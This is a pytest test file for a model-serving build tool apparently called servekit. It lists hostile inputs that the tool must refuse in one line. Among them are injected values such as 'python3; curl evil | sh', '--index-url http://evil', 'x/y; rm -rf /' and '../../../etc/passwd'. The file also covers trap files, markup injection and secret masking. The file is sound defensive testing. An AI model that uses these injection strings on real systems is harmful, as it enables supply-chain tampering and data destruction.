"""A corpus of hostile inputs, one list per class of boundary (issue #29): values that would become lines of another
format, paths, types YAML guesses, knob values, files handed to us, servers, and command-line arguments. Every
input is refused in one located line (or, for a server, fails its check in time), never accepted, never a traceback
or `error: unexpected`, never a hang."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from support import LAUNCHER, ROOT

GOOD = (ROOT / "images.yaml").read_text()


def _sub(old: str, new: str):
    assert old in GOOD, old
    return lambda text: text.replace(old, new, 1)


def _line(prefix: str, value: str):
    """Replace the value of the first line that starts with `prefix` (a key and its indent)."""
    pattern = re.compile(rf"^{re.escape(prefix)}.*$", re.M)
    assert pattern.search(GOOD), prefix
    return lambda text: pattern.sub(lambda _: prefix + value, text, count=1)


def _refused(code: int, err: str, *fragments: str) -> None:
    """Exit 2, one line, no traceback and no `unexpected`, each fragment in the line."""
    lines = err.strip().splitlines()
    assert code == 2, err
    assert lines and lines[-1].startswith("error: "), err
    assert "unexpected" not in err and "Traceback" not in err, err
    for fragment in fragments:
        assert fragment in lines[-1], lines[-1]


# --- 1. values that would become lines of a requirements, pip, .env or Compose file, or a command -------------

LINES = [
    ("pin-name-adds-an-index", _sub('  torch: "2.13.0"', '  "torch\\n--index-url http://evil": "2.13.0"\n  torch: "2.13.0"'),
     ["U+000A", "line break"]),
    ("pin-name-not-a-name", _sub('  torch: "2.13.0"', '  "torch --index-url=http://evil": "2.13.0"\n  torch: "2.13.0"'),
     ["pins", "distribution name"]),
    ("index-url-adds-a-trusted-host", _sub("    url: https://pypi.org/simple",
                                           '    url: "https://pypi.org/simple\\n--trusted-host evil"'),
     ["indexes.pypi.url", "U+000A"]),
    ("index-url-unclosed-bracket", _sub("    url: https://pypi.org/simple", "    url: https://[pypi.org/simple"),
     ["indexes.pypi.url", "expected a URL", "Invalid IPv6 URL"]),  # the fuzz suite's finding: urlsplit raised
    ("index-url-with-a-space", _sub("    url: https://pypi.org/simple", '    url: "https://pypi.org/simple --trusted-host x"'),
     ["indexes.pypi.url", "expected text matching"]),
    ("torch-local-version-adds-an-index", _sub("torch_local_version: cpu",
                                               'torch_local_version: "cpu\\n--extra-index-url http://x"'),
     ["targets.cpu.torch_local_version", "U+000A"]),
    ("torch-local-version-not-a-label", _sub("torch_local_version: cpu", 'torch_local_version: "cpu --pre"'),
     ["targets.cpu.torch_local_version"]),
    ("knob-adds-an-env-line", _sub("        MAX_SEQS: 4", '        MAX_SEQS: 4\n        TOOL_PARSER: "x\\nEVIL=1"'),
     ["TOOL_PARSER", "U+000A"]),
    ("knob-carriage-return", _sub("        MAX_SEQS: 4", '        MAX_SEQS: 4\n        TOOL_PARSER: "x\\rEVIL=1"'),
     ["TOOL_PARSER", "U+000D"]),
    ("knob-unicode-line-separator", _sub("        MAX_SEQS: 4", '        MAX_SEQS: 4\n        TOOL_PARSER: "x\\u2028y"'),
     ["TOOL_PARSER", "U+2028"]),
    ("target-env-value-adds-a-line", _sub("    env:\n", '    env:\n      EVIL: "a\\nPATH=/tmp"\n'), ["U+000A"]),
    ("target-env-key-not-a-name", _sub("    env:\n", '    env:\n      "A=B": "x"\n'),
     ["targets.cpu.env", "environment variable's name"]),
    ("apt-package-adds-a-command", _sub("    apt: [", '    apt: ["python3; curl evil | sh", '),
     ["Debian package name"]),
    ("base-image-adds-a-line", _line("    image: ", '"debian:12\\nRUN evil"'), ["U+000A"]),
    ("base-image-not-a-reference", _line("    image: ", '"debian 12 --platform x"'),
     ["image reference"]),
    ("served-name-adds-a-flag", _line("    served_name: ", '"m --trust-remote-code"'),
     ["served_name"]),
    ("description-with-a-tab", _sub("    description: many short requests at once;", '    description: "short\\tEVIL" # many short requests at once;'), ["U+0009"]),
    ("nul-in-a-value", _sub("    description: many short requests at once;", '    description: "short\\0" # many short requests at once;'), ["U+0000"]),
    ("key-with-an-escape-sequence", _sub("  batch:\n    description: many", '  "batch\\e[2J":\n    description: many'),
     ["U+001B"]),
]

# --- 2. paths: one rule for every path the matrix names -----------------------------------------------------

PATHS = [
    ("series-dir-absolute", _sub("  dir: docker/patches", "  dir: /etc"), ["series.dir", "stays inside it"]),
    ("component-source-up", _sub("    source: kvarn", "    source: ../kvarn"), ["components.kvarn.source", "no '..'"]),
    ("pin-mirror-outside", _sub("  - docs/install.md", "  - ../../etc/hosts"), ["pin_mirrors.0", "no '..'"]),
    ("pin-mirror-absolute", _sub("  - docs/install.md", "  - /etc/hosts"), ["pin_mirrors.0", "not absolute"]),
    ("patch-name-up", _sub('["kvarn-{vllm}.patch",', '["../../../etc/passwd",'), ["components.kvarn.patches.0", "no '..'"]),
    ("patch-unknown-pin", _sub('["kvarn-{vllm}.patch",', '["kvarn-{pin:nope}.patch",'),
     ["components.kvarn.patches.0", "{pin:nope} names no pin"]),
    ("compose-file-elsewhere", _sub("    compose: [", '    compose: ["../../x.yaml", '), ["targets.cpu.compose"]),
    ("model-dir-backslash", _line("    dir: docker/demo-model", "x/../../y"), ["models.demo.dir"]),
]

# --- 3. types YAML guesses -------------------------------------------------------------------------------

TYPES = [
    ("boolean-for-a-number", _line("  boot_timeout_s: ", "true"),
     ["serve.boot_timeout_s", "expected an integer"]),
    ("boolean-for-an-integer-knob", _sub("        MAX_SEQS: 4", "        MAX_SEQS: true"),
     ["MAX_SEQS", "expected an integer"]),  # it was taken as 1
    ("quoted-number-for-a-number", _line("  boot_timeout_s: ", '"900"'),
     ["serve.boot_timeout_s", "expected an integer"]),
    ("float-for-an-integer", _line("  boot_timeout_s: ", "900.5"),
     ["serve.boot_timeout_s", "integer"]),
    ("number-for-a-boolean", _sub("    gpu: false", "    gpu: 0"), ["targets.cpu.gpu", "expected true or false"]),
    ("string-for-a-boolean", _sub("    gpu: false", '    gpu: "no"'), ["targets.cpu.gpu", "expected true or false"]),
    ("number-for-a-string", _line("    served_name: ", "12"),
     ["served_name", "expected a string"]),
    ("integer-beyond-pythons-limit", _sub("        MAX_SEQS: 4", "        MAX_SEQS: " + "9" * 5000), ["5000 digits"]),
    ("check-param-beyond-the-limit", _sub("params: {prompts: 64}", "params: {prompts: " + "9" * 5000 + "}"),
     ["5000 digits"]),
    ("port-beyond-tcp", _line("  port: ", "99999"), ["serve.port"]),
    ("list-for-a-mapping", _sub('      TORCHDYNAMO_DISABLE: "1"', '      - TORCHDYNAMO_DISABLE'), ["targets.cpu.env", "a mapping"]),
]

# --- 4. knob values: the loader, the launcher and --knob judge through the same code -----------------------

KNOB_VALUES = [
    ("extra-args-that-does-not-split", _sub("        MAX_SEQS: 4", "        MAX_SEQS: 4\n        EXTRA_ARGS: '--x \"open'"),
     ["profiles.alternative", "the launcher refuses it", "arguments as a shell splits them"]),
    ("speculation-on-batch", _sub("    knobs:\n      MODE: batch", "    knobs:\n      MODE: batch\n      SPEC: mtp"),
     ["profiles.batch", "the launcher refuses it", "batch serves without speculation"]),
    ("extra-args-speculative-config", _sub("        MAX_SEQS: 4",
                                           "        MAX_SEQS: 4\n        EXTRA_ARGS: --speculative-config={}"),
     ["profiles.alternative", "set SPEC"]),
    ("tier-in-extra-args-not-a-number", _sub("        MAX_SEQS: 4",
                                             "        MAX_SEQS: 4\n        EXTRA_ARGS: --kv-offloading-size lots"),
     ["profiles.alternative", "--kv-offloading-size"]),
    ("knob-nan", _sub("      GPU_UTIL: 0.2", "      GPU_UTIL: .nan"), ["GPU_UTIL", "finite"]),
    ("host-not-a-wildcard", _sub("      GPU_UTIL: 0.2", "      GPU_UTIL: 0.2\n      HOST: 127.0.0.1"),
     ["HOST='127.0.0.1'", "expected a wildcard address"]),
    ("port-in-a-profile", _sub("      GPU_UTIL: 0.2", "      GPU_UTIL: 0.2\n      PORT: 9000"),
     ["PORT='9000'", "expected no PORT here"]),
    ("port-in-extra-args", _sub("        MAX_SEQS: 4", "        MAX_SEQS: 4\n        EXTRA_ARGS: --port=9000"),
     ["EXTRA_ARGS", "expected no --port"]),
]


@pytest.mark.parametrize("case_id,mutate,fragments", LINES + PATHS + TYPES + KNOB_VALUES,
                         ids=[c[0] for c in LINES + PATHS + TYPES + KNOB_VALUES])
def test_a_hostile_matrix_value_is_refused_at_load_in_one_located_line(repo, cli, case_id, mutate, fragments):
    path = repo / "images.yaml"
    text = mutate(GOOD)
    assert text != GOOD
    path.write_text(text)
    code, _, err = cli("--matrix", str(path), "plan")
    _refused(code, err, str(path), *fragments)


def test_a_knob_with_spaces_around_it_is_one_value_for_every_reader(repo, cli):
    """`'mtp '` is mtp to the loader, to the rendered profiles and to the launcher alike."""
    from servekit.config.load import load_matrix
    from servekit.config.profiles import render_profiles
    from servekit.image.launcher import build_command
    path = repo / "images.yaml"
    path.write_text(_sub("      SPEC: mtp\n      CTX: fast", "      SPEC: ' mtp '\n      CTX: fast")(GOOD))
    matrix = load_matrix(path)
    assert matrix.profiles["mtp"].knobs["SPEC"] == "mtp"
    rendered = render_profiles(matrix, "cuda")
    argv, _ = build_command(rendered, "mtp", "native", {"SPEC": " mtp "})
    assert any('"method": "mtp"' in a or '"method":"mtp"' in a for a in argv), argv


@pytest.mark.parametrize("name, value, says", [
    ("TOOL_PARSER", "4\nEVIL=1", "U+000A"), ("EXTRA_ARGS", "--x 'open", "arguments as a shell splits them"),
    ("EXTRA_ARGS", "--speculative-config={}", "set SPEC"), ("EXTRA_ARGS", "--max-num-seqs 2 --host 10.0.0.9",
                                                            "expected no --host"),
    ("HOST", "example.com", "expected an IP address to listen on"), ("HOST", "0.0.0.0; true", "an IP address")])
def test_the_launcher_refuses_what_the_loader_refuses(name, value, says):
    """The same value through the environment at boot: the launcher's refusal, not a crash."""
    from servekit.config.load import load_matrix
    from servekit.config.profiles import render_profiles
    from servekit.image.launcher import KnobError, build_command
    rendered = render_profiles(load_matrix(ROOT / "images.yaml"), "cuda")
    with pytest.raises(KnobError, match=re.escape(says)):
        build_command(rendered, "default", "native", {name: value})


@pytest.mark.parametrize("argv, says", [
    (["up", "batch", "--knob", "SPEC=mtp"], "the launcher would refuse to start batch"),
    (["up", "default", "--knob", "TOOL_PARSER=a\nb"], "U+000A"),
    (["up", "default", "--knob", "EXTRA_ARGS=--x 'open"], "arguments as a shell splits them"),
    (["up", "default", "--knob", "NOPE=1"], "expected NAME=VALUE"),
    (["up", "default", "--knob", "PORT=9000"], "expected no PORT here: servekit publishes the server and watches it on "
                                               "--port"),
    (["up", "default", "--knob", "HOST=192.168.1.20"], "expected a wildcard address (0.0.0.0 or ::)"),
    (["run", "--profile", "default", "--knob", "HOST=localhost"], "expected an IP address"),
    (["sweep", "default", "--knob", "EXTRA_ARGS=--port 9000"], "expected no --port"),
    (["sweep", "default", "--knob", "MAX_SEQS=2", "--knob", "MAX_SEQS=4"], "--knob MAX_SEQS: given twice"),
    (["sweep", "default", "--knob", "TOOL_PARSER=qwen3_coder,hermes"], "a str knob cannot be swept"),
    (["sweep", "default", "--knob", "SPEC_ATTN=on,1"], "each value once"),
])
def test_a_hostile_knob_on_the_command_line_is_refused_before_anything_starts(repo, cli, argv, says):
    code, _, err = cli("--matrix", str(repo / "images.yaml"), *argv, "--target", "cuda", "--engine", "venv:" + sys.prefix)
    _refused(code, err, says)


SECRET = "sk-" + "s" * 30
SECRET_IN_EXTRA_ARGS = [f"--api-key {SECRET}", f"--max-num-seqs 2 --api-key={SECRET}", f"--hf-token '{SECRET}'",
                        f"--api-key \"{SECRET}\" --x 'open"]


@pytest.mark.parametrize("extra", SECRET_IN_EXTRA_ARGS)
def test_a_secret_in_extra_args_is_refused_by_the_launcher_and_never_shown(extra):
    """A key on vllm serve's command line is in every process list, the server's log, `ps` and the report."""
    from servekit.config.load import load_matrix
    from servekit.config.profiles import render_profiles
    from servekit.image.launcher import KnobError, build_command
    rendered = render_profiles(load_matrix(ROOT / "images.yaml"), "cuda")
    with pytest.raises(KnobError) as refused:
        build_command(rendered, "default", "native", {"EXTRA_ARGS": extra})
    assert SECRET not in str(refused.value) and "\n" not in str(refused.value)
    assert "expected no --" in str(refused.value) or "***" in str(refused.value)


@pytest.mark.parametrize("extra", SECRET_IN_EXTRA_ARGS[:3])
def test_a_secret_in_a_knob_on_the_command_line_is_refused_and_never_shown(repo, cli, extra):
    code, out, err = cli("--matrix", str(repo / "images.yaml"), "up", "default", "--knob", f"EXTRA_ARGS={extra}")
    _refused(code, err, "--knob EXTRA_ARGS=", "expected no --")
    assert SECRET not in out + err


def test_a_secret_in_a_profiles_extra_args_is_refused_at_load_and_never_shown(repo, cli):
    matrix = repo / "images.yaml"
    matrix.write_text(matrix.read_text().replace("    knobs:\n      MODE: single\n",
                                                 f"    knobs:\n      MODE: single\n      EXTRA_ARGS: --api-key {SECRET}\n", 1))
    code, out, err = cli("--matrix", str(matrix), "plan")
    _refused(code, err, "profiles.default.knobs.EXTRA_ARGS", "expected no --api-key")
    assert SECRET not in out + err


def test_masked_hides_each_secret_flags_value_and_nothing_else():
    from servekit.image.knobs import masked
    line = f"--api-key={SECRET} --ssl-keyfile /k.pem --hf-token '{SECRET}' --max-num-seqs 2 --api-key {SECRET}"
    assert masked(line) == "--api-key=*** --ssl-keyfile /k.pem --hf-token *** --max-num-seqs 2 --api-key ***"


# --- 5. files handed to us: keys, reports, manifests ----------------------------------------------------------

def _hostile_file(tmp_path: Path, kind: str, good: str) -> Path:
    path = tmp_path / f"hostile-{kind}"
    if kind == "fifo":
        os.mkfifo(path)  # opening it to read would block until a writer came
    elif kind == "device":
        return Path("/dev/zero")
    elif kind == "folder":
        path.mkdir()
    elif kind == "huge":
        with open(path, "wb") as f:
            f.truncate(80 << 20)  # sparse: 80 MiB of NULs that take no disk
    elif kind == "binary":
        path.write_bytes(b"\xff\xfe" + good.encode())
    elif kind == "nested":
        path.write_text("[" * 200_000 + "]" * 200_000)
    elif kind == "link-to-fifo":
        os.mkfifo(tmp_path / "fifo-behind")
        path.symlink_to(tmp_path / "fifo-behind")
    return path


FILE_KINDS = ["fifo", "device", "folder", "huge", "binary", "link-to-fifo"]


@pytest.mark.parametrize("kind", FILE_KINDS)
def test_a_hostile_key_file_stops_the_launcher_in_one_line(tmp_path, kind):
    from servekit.image.launcher import read_key
    started = time.monotonic()
    key, why = read_key(str(_hostile_file(tmp_path, kind, "sk-" + "k" * 40)))
    assert key is None and why.startswith("no API key: ") and "\n" not in why, why
    assert time.monotonic() - started < 5


@pytest.mark.parametrize("kind", ["fifo", "huge", "binary"])
def test_a_hostile_token_file_stops_the_download_before_any_request(tmp_path, kind):
    """prepare's HF_TOKEN_FILE: refused in one line, never waited on (a FIFO) and never sent."""
    profiles = tmp_path / "profiles.json"
    profiles.write_text(json.dumps({"model": {"source": "huggingface", "repo": "org/model", "path": str(tmp_path / "m"),
                                              "served_name": "m", "drafters": {}}, "profiles": {}, "hosts": {}}))
    env = {"SERVEKIT_PROFILES": str(profiles), "HF_ENDPOINT": "http://127.0.0.1:9", "PATH": os.environ["PATH"],
           "HF_TOKEN_FILE": str(_hostile_file(tmp_path, kind, "hf_" + "t" * 30))}
    done = subprocess.run([*LAUNCHER, "prepare"], env=env,
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 1 and done.stderr.strip().splitlines()[-1].startswith("prepare: error: HF_TOKEN_FILE"), \
        done.stderr


def test_a_key_of_two_lines_is_no_key(tmp_path):
    from servekit.image.launcher import read_key
    path = tmp_path / "key"
    path.write_text("sk-" + "k" * 40 + "\nsecond line\n")
    key, why = read_key(str(path))
    assert key is None and "U+000A" in why and "kkkk" not in why  # the key's text is never shown


@pytest.mark.parametrize("kind", [*FILE_KINDS, "nested"])
def test_a_hostile_report_is_refused_by_compare_in_one_line(tmp_path, cli, kind):
    good = ROOT / "docs/gpu/20261201-045103-default-cuda/report.json"
    started = time.monotonic()
    code, _, err = cli("compare", str(_hostile_file(tmp_path, kind, good.read_text())), str(good))
    _refused(code, err)
    assert time.monotonic() - started < 10


MALFORMED_REPORTS = [
    ("not-an-object", lambda d: [d]),
    ("checks-not-a-list", lambda d: {**d, "checks": "passed"}),
    ("check-of-a-wrong-status", lambda d: {**d, "checks": [{**d["checks"][0], "status": "great"}]}),
    ("figures-nested-deep", lambda d: {**d, "checks": [{**d["checks"][0], "figures": _deep(5000)}]}),
    ("a-number-as-text", lambda d: {**d, "boot": {**d["boot"], "time_to_healthy_s": "fast"}}),
    ("another-kind", lambda d: {**d, "kind": "sweep"}),
    ("a-future-schema", lambda d: {**d, "schema_version": 99}),
    # the fourth pass's (#63): each was a traceback or compared as a number
    ("kind-a-list", lambda d: {**d, "kind": ["run"]}),
    ("kind-a-mapping", lambda d: {**d, "kind": {"run": 1}}),
    ("a-figure-not-finite", lambda d: {**d, "boot": {**d["boot"], "time_to_healthy_s": float("nan")}}),
    ("a-figure-of-401-digits", lambda d: {**d, "boot": {**d["boot"], "kv_pool_tokens": int("9" * 401)}}),
    ("shared-usage-as-text", lambda d: {**d, "memory": {**d.get("memory", {}), "shared_usage": "1.3 GB"}}),
    ("a-gpu-entry-of-nothing", lambda d: {**d, "memory": {**d.get("memory", {}), "gpus": [{}]}}),
]


def _deep(levels: int):
    out: dict = {}
    for _ in range(levels):
        out = {"x": out}
    return out


@pytest.mark.parametrize("case_id, mutate", MALFORMED_REPORTS, ids=[m[0] for m in MALFORMED_REPORTS])
def test_a_malformed_report_is_refused_by_compare_in_one_line(tmp_path, cli, case_id, mutate):
    good = ROOT / "docs/gpu/20261201-045103-default-cuda/report.json"
    bad = tmp_path / "report.json"
    doc = json.loads(good.read_text())
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(max(limit, 20000))  # json.dumps of the deep case only: the code under test, and every
    try:  # test after this one in the worker, run at the interpreter's own limit
        bad.write_text(json.dumps(mutate(doc)))
    finally:
        sys.setrecursionlimit(limit)
    code, _, err = cli("compare", str(bad), str(good))
    _refused(code, err, str(bad))


def test_a_reports_words_are_never_read_as_markup(tmp_path, cli):
    """compare prints a table through Rich: a run id or a figure like "[/x]" is text, not a tag."""
    good = ROOT / "docs/gpu/20261201-045103-default-cuda/report.json"
    doc = json.loads(good.read_text())
    doc["run_id"] = "[/bold][red]x"
    doc["checks"][0]["figures"] = {"[/weird]": "[link=http://evil]y"}
    bad = tmp_path / "report.json"
    bad.write_text(json.dumps(doc))
    code, out, err = cli("compare", str(bad), str(good))
    assert code == 0, err
    assert "[/bold][red]x" in out


def _release_record(**change) -> dict:
    record = {"target": "cpu", "repository": "127.0.0.1:5000/serve/vllm-serve", "tags": ["v0.31.0-cpu"],
              "registry_digest": "sha256:" + "ef" * 32, "image_id": "sha256:" + "ab" * 32,
              "content_digest": "0123456789ab", "pins": {}, "smoke": {}}
    return {**record, **change}


MALFORMED_MANIFESTS = [
    ("names-no-target", {}),
    ("no-tags", {"cpu": _release_record(tags=[])}),
    ("a-repository-of-a-shell-line", {"cpu": _release_record(repository="x/y; rm -rf /")}),
    ("a-repository-of-two-lines", {"cpu": _release_record(repository="127.0.0.1:5000/serve\nimage: evil")}),
    ("an-uppercase-repository", {"cpu": _release_record(repository="127.0.0.1:5000/Serve")}),
    ("a-tag-with-a-slash", {"cpu": _release_record(tags=["../latest"])}),
    ("an-image-id-in-words", {"cpu": _release_record(image_id="the good one")}),
    ("one-target-under-anothers-name", {"cuda": _release_record()}),
]


@pytest.mark.parametrize("case_id, targets", MALFORMED_MANIFESTS, ids=[m[0] for m in MALFORMED_MANIFESTS])
def test_a_malformed_release_manifest_is_refused_before_it_is_rendered_or_verified(repo, cli, case_id, targets):
    """`render k8s` writes the manifest's repository into a Deployment and `release --verify` asks a registry for its
    tags: a manifest that names nothing, or names what no registry could hold, is refused where it is read."""
    path = repo / "releases" / "v0.31.0.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"schema_version": 1, "kind": "release", "version": "0.31.0", "targets": targets}))
    code, _, err = cli("--matrix", str(repo / "images.yaml"), "render", "k8s", "--profile", "default", "--target",
                       "cpu", "--out", str(repo / "k8s-out"))
    _refused(code, err, "v0.31.0.json")
    assert not (repo / "k8s-out").exists()


@pytest.mark.parametrize("kind", [["release"], {"release": 1}, None], ids=["a-list", "a-mapping", "none"])
def test_a_manifest_whose_kind_is_no_word_is_refused_before_it_is_rendered(repo, cli, kind):
    """A manifest's kind is looked up among the kinds servekit writes: a list or a mapping there was a traceback."""
    path = repo / "releases" / "v0.31.0.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"schema_version": 1, "kind": kind, "version": "0.31.0", "targets": {}}))
    code, _, err = cli("--matrix", str(repo / "images.yaml"), "render", "k8s", "--profile", "default", "--target",
                       "cpu", "--out", str(repo / "k8s-out"))
    _refused(code, err, "v0.31.0.json", "not a servekit file")
    assert not (repo / "k8s-out").exists()


@pytest.mark.parametrize("kind", ["fifo", "huge", "binary"])
def test_a_hostile_api_key_file_for_smoke_is_refused_in_one_line(repo, tmp_path, cli, kind):
    key = _hostile_file(tmp_path, kind, "sk-" + "k" * 40)
    code, _, err = cli("--matrix", str(repo / "images.yaml"), "smoke", "default", "--target", "cpu", "--url",
                       "http://127.0.0.1:9", "--api-key-file", str(key))
    _refused(code, err, "--api-key-file")


# --- 6. servers: a redirect elsewhere fails, --timeout bounds a check -------------------------------------------

class _Server(BaseHTTPRequestHandler):
    redirect_to = ""
    stop = threading.Event()

    def do_GET(self):
        if self.redirect_to:
            self.send_response(302)
            self.send_header("Location", self.redirect_to + self.path)
            self.end_headers()
            return
        self.stop.wait(60)  # never answers

    do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def server():
    made = []

    def start(redirect_to: str = ""):
        stop = threading.Event()
        handler = type("Handler", (_Server,), {"redirect_to": redirect_to, "stop": stop})
        httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        httpd.daemon_threads = True
        threading.Thread(target=httpd.serve_forever, daemon=True).start()
        made.append((httpd, stop))
        return f"http://127.0.0.1:{httpd.server_port}"
    yield start
    for httpd, stop in made:
        stop.set()
        httpd.shutdown()
        httpd.server_close()


def test_a_redirect_to_another_origin_fails_the_check(server):
    from servekit.smoke import Context, run_check
    elsewhere = server()  # a second server: it would hang, but it must never be asked
    ctx = Context(server(redirect_to=elsewhere), "k" * 20, "m", check_deadline_s=20)
    result = run_check("health", ctx, {})
    assert result.status == "failed" and "another origin" in result.reason, result
    assert result.seconds < 10


@pytest.mark.slow
def test_smoke_timeout_bounds_every_check(repo, tmp_path, server):
    """`smoke --url` against a server that never answers, `--timeout 2`: every check fails by then, named."""
    key = tmp_path / "key"
    key.write_text("sk-" + "k" * 40)
    started = time.monotonic()
    done = subprocess.run([sys.executable, str(ROOT / "build.py"), "--matrix", str(repo / "images.yaml"), "smoke",
                           "default", "--target", "cpu", "--url", server(), "--api-key-file", str(key),
                           "--check", "health", "--check", "greedy", "--timeout", "2"], capture_output=True,
                          text=True, timeout=120, cwd=repo)
    assert done.returncode == 1, done.stderr
    assert time.monotonic() - started < 60
    assert done.stdout.count("no verdict within 2 s") == 2, done.stdout


# --- 7. arguments: refused in one line before any work starts -----------------------------------------------

ARGUMENTS = [
    (["up", "default", "--port", "0"], "--port", "a TCP port"),
    (["up", "default", "--port", "70000"], "--port", "at most 65535"),
    (["up", "default", "--port", "eighty"], "--port", "a TCP port"),
    (["up", "default", "--timeout", "-5"], "--timeout", "seconds"),
    (["up", "default", "--timeout", "nan"], "--timeout", "finite"),
    (["sweep", "default", "--knob", "MAX_SEQS=4", "--boots", "0"], "--boots", "at least 1"),
    (["compare", "a", "b", "--threshold", "-1"], "--threshold", "at least 0"),
    (["monitor", "--interval", "0"], "--interval", "at least 0.001"),
    (["monitor", "--seconds", "-1"], "--seconds", "seconds"),
    (["logs", "default", "--tail", "-3"], "--tail", "at least 0"),
    (["render", "k8s", "--profile", "default", "--kube-version", "1.31; rm -rf /"], "--kube-version", "1.31"),
    (["render", "k8s", "--profile", "default", "--out", "images.yaml"], "--out", "is a file"),
    (["smoke", "default", "--url", "file:///etc/passwd"], "--url", "http(s)://"),
    (["smoke", "default", "--url", "http://me:pw@127.0.0.1:8000"], "--url", "no credentials"),
    (["smoke", "default", "--url", "http://127.0.0.1:99999"], "--url", "http(s)://"),
    (["smoke", "default", "--timeout", "0"], "--timeout", "more than 0"),
    (["release", "--registry", "127.0.0.1:5000/serve --all-tags"], "--registry", "HOST[:PORT][/NAMESPACE]"),
    (["release", "--registry", "https://127.0.0.1:5000"], "--registry", "HOST[:PORT][/NAMESPACE]"),
    (["render", "k8s", "--profile", "default", "--kube-version", "1.99"], "--kube-version", "1.25 to 1.37"),
    (["render", "k8s", "--profile", "default", "--kube-version", "1.031"], "--kube-version", "schemas are here"),
    (["port", "--to", "../../0.32.0"], "--to", "a version such as 0.32.0"),
    (["port", "--to", "v0.32.0"], "--to", "as the index spells it, 0.32.0"),
    (["port", "--to", "0.32.0\n"], "--to", "as the index spells it"),
    (["bump", "--to", "latest", "--dry-run"], "--to", "a version such as 0.32.0"),
    (["port", "--to", "0.32.0", "--accept", "old_name=reviewed\nnew_name=smuggled"], "--accept", "U+000A"),
    (["port", "--to", "0.32.0", "--accept", "#old_name=a comment, read back as nothing"], "--accept", "NAME=REASON"),
    (["port", "--to", "0.32.0", "--accept", "old_name="], "--accept", "NAME=REASON"),
    (["render", "k8s", "--profile", "default", "--out", "/proc/self"], "--out /proc/self",
     "cannot write the manifests there"),
    (["down", "nope"], "profile 'nope'", "expected one of default"),
    (["stand-in", "--target", "cuda", "--seed", "-3"], "--seed", "a seed from 0 to 4294967295"),
    (["stand-in", "--target", "cuda", "--out", "/tmp/" + "x" * 300], "--out", "File name too long"),
    (["stand-in", "--target", "cuda", "--out", "images.yaml"], "--out", "is a file"),
    (["stand-in", "--target", "gpu9"], "--target gpu9", "no such target"),
    (["plan", "--target", "cpu\n"], "--target 'cpu\\n'", "no such target"),
]


@pytest.mark.parametrize("argv, flag, says", ARGUMENTS, ids=[" ".join(a[0]) for a in ARGUMENTS])
def test_a_bad_argument_is_refused_in_one_line_before_any_work(repo, cli, argv, flag, says):
    code, out, err = cli("--matrix", str(repo / "images.yaml"), *argv)
    _refused(code, err, flag, says)
    assert out == ""


def test_accepting_an_exception_keeps_every_line_a_reviewer_wrote(tmp_path):
    from servekit.build.portcheck import ACCEPT_FILE, read_accepted, record_accepted
    kept = "# Reviewed exceptions.\n# old_helper: see vllm #58092 before you drop it\nold_helper=only in a docstring\n" \
        "\n# kept for 0.33\nours=fixed upstream\n"
    (tmp_path / ACCEPT_FILE).write_text(kept)
    record_accepted(tmp_path, {"ours": "fixed by vllm #58092", "newer": "moved, same signature"})
    assert (tmp_path / ACCEPT_FILE).read_text() == kept.replace("ours=fixed upstream", "ours=fixed by vllm #58092") \
        + "newer=moved, same signature\n"
    assert read_accepted(tmp_path) == {"old_helper": "only in a docstring", "ours": "fixed by vllm #58092",
                                       "newer": "moved, same signature"}


@pytest.mark.parametrize("uid, gid, says", [
    ("root", None, "SERVEKIT_UID='root': expected a numeric id"), ("-1", None, "SERVEKIT_UID='-1'"),
    ("1e3", None, "SERVEKIT_UID='1e3'"), ("99999999999", None, "from 0 to 2147483647"),
    ("１２", None, "SERVEKIT_UID='１２'"), ("1000", "wheel", "SERVEKIT_GID='wheel'"),
    ("1000", "1000:0", "SERVEKIT_GID='1000:0'")])
def test_a_user_or_group_id_that_is_no_number_is_refused_in_one_line(monkeypatch, uid, gid, says):
    from servekit.engines.runas import run_as
    from servekit.errors import UserError
    monkeypatch.setenv("SERVEKIT_UID", uid)
    if gid is not None:
        monkeypatch.setenv("SERVEKIT_GID", gid)
    with pytest.raises(UserError) as refused:
        run_as()
    assert says in str(refused.value) and "\n" not in str(refused.value)


def test_a_numeric_user_and_group_id_are_taken(monkeypatch):
    from servekit.engines.runas import run_as
    monkeypatch.setenv("SERVEKIT_UID", "4321")
    monkeypatch.delenv("SERVEKIT_GID", raising=False)
    assert run_as() == (4321, 4321)
    monkeypatch.setenv("SERVEKIT_GID", "0")
    assert run_as() == (4321, 0)


@pytest.mark.parametrize("value, says", [("lots", "expected a finite number"), ("0", "expected at least 1"),
                                         ("2.5", "expected a whole number"), ("1e9", "expected at most 100")])
def test_a_push_attempts_setting_that_is_no_count_is_refused_before_anything_is_pushed(repo, cli, monkeypatch, value,
                                                                                      says):
    monkeypatch.setenv("SERVEKIT_PUSH_ATTEMPTS", value)
    code, out, err = cli("--matrix", str(repo / "images.yaml"), "release", "--registry", "127.0.0.1:9/x")
    _refused(code, err, f"SERVEKIT_PUSH_ATTEMPTS={value!r}", says)


@pytest.mark.parametrize("value, attempts", [(None, 5), ("", 5), ("3", 3), (" 7 ", 7), ("2.0", 2)])
def test_push_attempts_unset_or_a_whole_number_is_taken(monkeypatch, value, attempts):
    from servekit.release.publish import _attempts
    if value is None:
        monkeypatch.delenv("SERVEKIT_PUSH_ATTEMPTS", raising=False)
    else:
        monkeypatch.setenv("SERVEKIT_PUSH_ATTEMPTS", value)
    assert _attempts() == attempts


# --- a checkpoint's own files: they come from a hub anybody can publish to -------------------------------------------

def _converting_folder(tmp_path: Path) -> tuple[Path, Path, dict]:
    """A fetched, marked compressed-tensors folder as prepare leaves it (its conversions next), the file beside the
    models folder a hostile name would reach, and the launcher's environment for `prepare`."""
    models = tmp_path / "models"
    folder = models / "m"
    folder.mkdir(parents=True)
    (folder / "config.json").write_text(json.dumps({"quantization_config": {"quant_method": "compressed-tensors"}}))
    (folder / "model.safetensors.index.json").write_text(json.dumps({"weight_map": {"lm_head.weight": "model-1.safetensors"}}))
    (folder / "model-1.safetensors").write_bytes(b"published")
    revision = "0" * 40
    (folder / ".servekit-complete").write_text(json.dumps({"identity": f"org/model@{revision}"}))
